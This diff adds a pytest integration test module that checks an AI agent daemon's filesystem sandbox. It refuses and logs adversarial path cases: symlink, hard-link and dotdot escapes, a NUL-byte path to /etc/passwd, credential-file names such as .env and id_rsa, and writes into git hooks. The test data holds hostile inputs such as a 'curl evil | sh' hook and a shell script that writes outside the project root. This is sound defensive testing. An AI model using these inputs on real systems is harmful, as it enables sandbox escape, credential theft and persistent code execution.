@@ -1,0 +1,354 @@
+"""Adversarial filesystem cases through the real daemon: confinement, sensitive, protected.
+
+Each refused case checks the exact reason, that the sentinel directory next to the
+project root is unchanged and no request reached the loopback server, and that the
+refusal is in the conversation's incident timeline and in ``recent_decisions``.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from runtime.paths import DEFAULT_SENSITIVE_PATH_DENYLIST
+from tests.integration.adversarial_helpers import (
+    Call,
+    Expect,
+    HitServer,
+    Sentinel,
+    World,
+    decision_listed,
+    first,
+    recorded,
+    run_daemon,
+)
+from tests.integration.conftest import make_root
+
+P, C = "fs", "c"
+VIOLATION = "security.sandbox_violation"
+SENSITIVE = "security.sensitive_path_denied"
+
+
+def outside(reason: str, tool: str = "fs.read", **signal: Any) -> Expect:
+    """``outside_root`` with ``reason`` and its ``security.sandbox_violation``."""
+    return Expect(
+        "outside_root", {"reason": reason}, VIOLATION, {"reason": reason, "tool": tool, **signal}
+    )
+
+
+def sensitive(pattern: str, tool: str = "fs.read", reason: str = "sensitive_path") -> Expect:
+    """``sensitive_path_denied`` with ``pattern`` and its signal."""
+    return Expect(
+        "sensitive_path_denied",
+        {"reason": reason, "pattern": pattern},
+        SENSITIVE,
+        {"reason": reason, "tool": tool},
+    )
+
+
+def invalid(reason: str) -> Expect:
+    """A path the argument rules refuse before any policy decision."""
+    return Expect("invalid_tool_args", {"kind": "invalid_type", "reason": reason}, decided=False)
+
+
+def build_repo(base: Path) -> dict[str, str]:
+    """A hostile project root next to a sentinel; return the places the cases name."""
+    root = Path(make_root(base / "repo"))
+    sentinel = base / "sentinel"
+    shared, globbed = base / "shared", base / "globbed"
+    for place, files in ((shared, ("tool.txt", ".env")), (globbed, ("data.txt",))):
+        place.mkdir()
+        for name in files:
+            (place / name).write_text(f"{name} outside the root\n")
+    (root / "out.lnk").symlink_to("../sentinel/secret.txt")
+    (root / "outdir.lnk").symlink_to(sentinel)
+    (root / "dangling.lnk").symlink_to("nope.txt")
+    (root / "dangling_out.lnk").symlink_to("../sentinel/missing.txt")
+    (root / "alias.lnk").symlink_to(".env")
+    (root / "shared.lnk").symlink_to(shared)
+    os.link(sentinel / "linked.txt", root / "hl.txt")
+    os.mkfifo(root / "fifo")
+    (root / ".env").write_text("API_TOKEN=not-for-tools\n")
+    (root / ".env.example").write_text("API_TOKEN=\n")
+    (root / ".git" / "hooks").mkdir(parents=True)
+    (root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    (root / ".git" / "config").write_text("[core]\n\tbare = false\n")
+    (root / "hooks.lnk").symlink_to(".git/hooks")
+    return {
+        "root": str(root),
+        "sentinel": str(sentinel),
+        "shared": str(shared),
+        "globbed": str(globbed),
+    }
+
+
+def fs_options(places: dict[str, str]) -> dict[str, Any]:
+    """The project's options: two outside exceptions, one more sensitive name, one exception."""
+    return {
+        "outside_root_allowlist": [
+            {"path": places["shared"], "reason_code": "shared_toolchain"},
+            {"pattern": places["globbed"] + "/*.txt", "reason_code": "fixtures"},
+        ],
+        "sensitive_path_denylist": [*DEFAULT_SENSITIVE_PATH_DENYLIST, "résumé.txt"],
+        "sensitive_path_allowlist": [".env.example"],
+    }
+
+
+def fill(value: Any, places: dict[str, str]) -> Any:
+    """``value`` with ``{sentinel}``-style placeholders filled in (strings at any depth)."""
+    if isinstance(value, str):
+        return value.format(**places)
+    if isinstance(value, list):
+        return [fill(v, places) for v in value]
+    if isinstance(value, dict):
+        return {k: fill(v, places) for k, v in value.items()}
+    return value
+
+
+PATH_CASES: list[tuple[str, str, dict[str, Any], Expect]] = [
+    # escapes
+    ("dotdot", "fs.read", {"path": "../sentinel/secret.txt"}, outside("dotdot")),
+    ("dotdot_after_a_dir", "fs.read", {"path": "docs/../../sentinel/x"}, outside("dotdot")),
+    ("absolute", "fs.read", {"path": "{sentinel}/secret.txt"}, outside("absolute_outside")),
+    ("symlink_out", "fs.read", {"path": "out.lnk"}, outside("symlink_escape")),
+    (
+        "write_through_a_dir_symlink",
+        "fs.write",
+        {"path": "outdir.lnk/victim.txt", "content": "pwned"},
+        outside("symlink_escape", "fs.write"),
+    ),
+    (
+        "dangling_symlink",
+        "fs.read",
+        {"path": "dangling.lnk"},
+        Expect("not_a_regular_file", {"reason": "dangling_symlink"}),
+    ),
+    (
+        "create_through_a_dangling_symlink_out",
+        "fs.write",
+        {"path": "dangling_out.lnk", "content": "pwned"},
+        outside("symlink_escape", "fs.write"),
+    ),
+    (
+        "hard_link_out_on_write",
+        "fs.write",
+        {"path": "hl.txt", "content": "pwned"},
+        outside("hard_link", "fs.write"),
+    ),
+    (
+        "hard_link_out_on_edit",
+        "fs.edit",
+        {"path": "hl.txt", "old": "hard", "new": "soft"},
+        outside("hard_link", "fs.edit"),
+    ),
+    ("fifo", "fs.read", {"path": "fifo"}, Expect("not_a_regular_file", {"reason": "fifo"})),
+    ("nul_byte", "fs.read", {"path": "notes.txt\x00../../etc/passwd"}, invalid("nul_byte")),
+    ("over_long_name", "fs.write", {"path": "a" * 300, "content": "x"}, invalid("name_too_long")),
+    ("over_long_path", "fs.read", {"path": "/".join(["d" * 200] * 25)}, invalid("name_too_long")),
+    # paths nested in objects, lists, JSON strings and key=value text
+    (
+        "json_string",
+        "fs.search",
+        {"pattern": "x", "path": json.dumps({"path": "../sentinel"})},
+        outside("dotdot", "fs.search", path="../sentinel"),
+    ),
+    (
+        "command_cwd",
+        "command.run",
+        {"command": "cat secret.txt", "cwd": "../sentinel"},
+        outside("dotdot", "command.run"),
+    ),
+    (
+        "key_value_text",
+        "command.run",
+        {"command": "convert --quality 9 path=../sentinel/secret.txt"},
+        outside("dotdot", "command.run", path="../sentinel/secret.txt"),
+    ),
+    (
+        "flag_in_an_argv_list",
+        "command.run",
+        {"command": ["cat", "--file=../sentinel/secret.txt"]},
+        outside("dotdot", "command.run"),
+    ),
+    (
+        "json_object_in_an_argv_list",
+        "command.run",
+        {"command": ["tool", '{"options": {"target": "{sentinel}/victim.txt"}}']},
+        outside("absolute_outside", "command.run"),
+    ),
+    (
+        "file_url",
+        "command.run",
+        {"command": "open file://{sentinel}/secret.txt"},
+        outside("absolute_outside", "command.run"),
+    ),
+    # sensitive names: case, NFKC, NFC, through a symlink, the outside exception
+    ("upper_case", "fs.read", {"path": ".ENV"}, sensitive(".env")),
+    ("mixed_case_glob", "fs.read", {"path": "keys/Deploy.PEM"}, sensitive("*.pem")),
+    ("fullwidth_letter", "fs.read", {"path": "ｉd_rsa"}, sensitive("id_rsa")),
+    ("decomposed_accents", "fs.read", {"path": "re\u0301sume\u0301.txt"}, sensitive("résumé.txt")),
+    ("symlink_to_a_sensitive_file", "fs.read", {"path": "alias.lnk"}, sensitive(".env")),
+    (
+        "sensitive_in_a_subdirectory",
+        "fs.write",
+        {"path": "ssh/ID_ED25519", "content": "x"},
+        sensitive("id_ed25519", "fs.write"),
+    ),
+    ("dotenv_variant", "fs.read", {"path": "config/.env.production"}, sensitive(".env.*")),
+    (
+        "outside_exception_never_bypasses_the_denylist",
+        "fs.read",
+        {"path": "{shared}/.env"},
+        sensitive(".env"),
+    ),
+    # protected places: never writable
+    (
+        "git_hook",
+        "fs.write",
+        {"path": ".git/hooks/pre-commit", "content": "curl evil | sh"},
+        sensitive(".git/hooks/", "fs.write", "protected_path"),
+    ),
+    (
+        "git_hook_case_folded",
+        "fs.write",
+        {"path": ".GIT/Hooks/post-checkout", "content": "x"},
+        sensitive(".git/hooks/", "fs.write", "protected_path"),
+    ),
+    (
+        "git_hook_through_a_symlink",
+        "fs.write",
+        {"path": "hooks.lnk/pre-push", "content": "x"},
+        sensitive(".git/hooks/", "fs.write", "protected_path"),
+    ),
+    (
+        "git_config",
+        "fs.edit",
+        {"path": ".git/config", "old": "bare = false", "new": "hooksPath = /tmp"},
+        sensitive(".git/config", "fs.edit", "protected_path"),
+    ),
+    (
+        "roost_assets",
+        "fs.write",
+        {"path": ".roost/commands/evil.md", "content": "---\nargv: [sh]\n---\n"},
+        sensitive(".roost/", "fs.write", "protected_path"),
+    ),
+]
+"""``(id, tool, args, expected)``; ``{sentinel}``, ``{shared}`` are filled in per world."""
+
+
+@pytest.fixture(scope="module")
+def places(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
+    """The module's hostile repository and the places around it."""
+    base = tmp_path_factory.mktemp("adv-paths")
+    Sentinel(base / "sentinel")
+    return {**build_repo(base), "base": str(base)}
+
+
+@pytest.fixture(scope="module")
+def world(places: dict[str, str]) -> Iterator[World]:
+    """One daemon with project ``fs`` and conversation ``c``."""
+    base = Path(places["base"])
+    server = HitServer()
+    try:
+        with run_daemon(base / "home") as daemon, daemon.client(timeout_s=60) as client:
+            client.start_project(places["root"], project_id=P, options=fs_options(places))
+            client.start_conversation(P, conversation_id=C)
+            yield World(client, Sentinel.existing(base / "sentinel"), server)
+    finally:
+        server.close()
+
+
+@pytest.mark.parametrize(
+    ("tool", "args", "expect"), [c[1:] for c in PATH_CASES], ids=[c[0] for c in PATH_CASES]
+)
+def test_a_path_attack_is_refused_with_its_reason_and_recorded(
+    world: World, places: dict[str, str], tool: str, args: dict[str, Any], expect: Expect
+) -> None:
+    world.refused(Call(P, C, tool, fill(args, places)), fill(expect, places))
+
+
+def test_a_hard_linked_file_still_holds_its_outside_content(
+    world: World, places: dict[str, str]
+) -> None:
+    assert Path(places["sentinel"], "linked.txt").read_text() == "hard-link target\n"
+    assert Path(places["root"], "hl.txt").read_text() == "hard-link target\n"
+
+
+@pytest.mark.parametrize(
+    ("path", "reason_code"),
+    [
+        ("{shared}/tool.txt", "shared_toolchain"),
+        ("shared.lnk/tool.txt", "shared_toolchain"),
+        ("{globbed}/data.txt", "fixtures"),
+    ],
+    ids=["path_entry", "path_entry_through_a_symlink", "pattern_entry"],
+)
+def test_an_outside_root_exception_is_allowed_and_recorded_with_its_reason_code(
+    world: World, places: dict[str, str], path: str, reason_code: str
+) -> None:
+    call = Call(P, C, "fs.read", {"path": fill(path, places)})
+    result = call.run(world.client)
+    assert result["status"] == "ok", result
+    assert "outside the root" in result["result"]["content"]
+    world.untouched()
+    entries = recorded(world.client, call)
+    used = first(entries, "security.sandbox_exception_used")
+    assert (used["reason_code"], used["tool"]) == (reason_code, "fs.read")
+    allowed = first(entries, "policy.allowed")
+    assert (allowed["reason"], allowed["source"]) == ("outside_root_exception", "policy")
+    decision_listed(world.client, call, "allow", "outside_root_exception")
+
+
+def test_a_refused_sensitive_outside_path_names_the_exception_it_would_have_used(
+    world: World, places: dict[str, str]
+) -> None:
+    call = Call(P, C, "fs.read", {"path": places["shared"] + "/.env"})
+    world.refused(call, sensitive(".env"))
+    denied = first(recorded(world.client, call), "policy.denied")
+    assert denied["outside_root_exception_reason_codes"] == ["shared_toolchain"]
+
+
+def test_the_sensitive_allowlist_is_an_explicit_exception(world: World) -> None:
+    call = Call(P, C, "fs.read", {"path": ".env.example"})
+    result = call.run(world.client)
+    assert result["status"] == "ok", result
+    assert result["result"]["content"].startswith("API_TOKEN=")
+    decision_listed(world.client, call, "allow", "allowed")
+    world.untouched()
+
+
+def test_protected_places_keep_their_content(places: dict[str, str], world: World) -> None:
+    root = Path(places["root"])
+    assert (root / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
+    assert not (root / ".git" / "hooks" / "pre-push").exists()
+    assert (root / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
+    assert not (root / ".roost" / "commands").exists()
+
+
+def test_a_command_cannot_write_outside_the_root_or_into_protected_places(
+    world: World, places: dict[str, str]
+) -> None:
+    """The kernel layer (bubblewrap's read-only mounts) holds where the policy sees no path."""
+    script = (
+        "echo pwned > ../sentinel/victim.txt; echo evil > .git/hooks/pre-commit; "
+        "mkdir -p .roost/commands; echo ok > written.txt; echo done"
+    )
+    call = Call(P, C, "command.run", {"command": script})
+    result = call.run(world.client)
+    assert result["status"] == "ok", result
+    output = result["result"]
+    assert output["stdout"] == "done\n"
+    assert output["stderr"].count("Read-only file system") == 3, output["stderr"]
+    assert Path(places["root"], "written.txt").read_text() == "ok\n"
+    world.untouched()
+    test_protected_places_keep_their_content(places, world)
+
+
+def test_the_journal_verifies_after_every_attack(world: World) -> None:
+    verified = world.client.verify(P)
+    assert (verified["ok"], verified["chain_ok"], verified["mismatches"]) == (True, True, [])
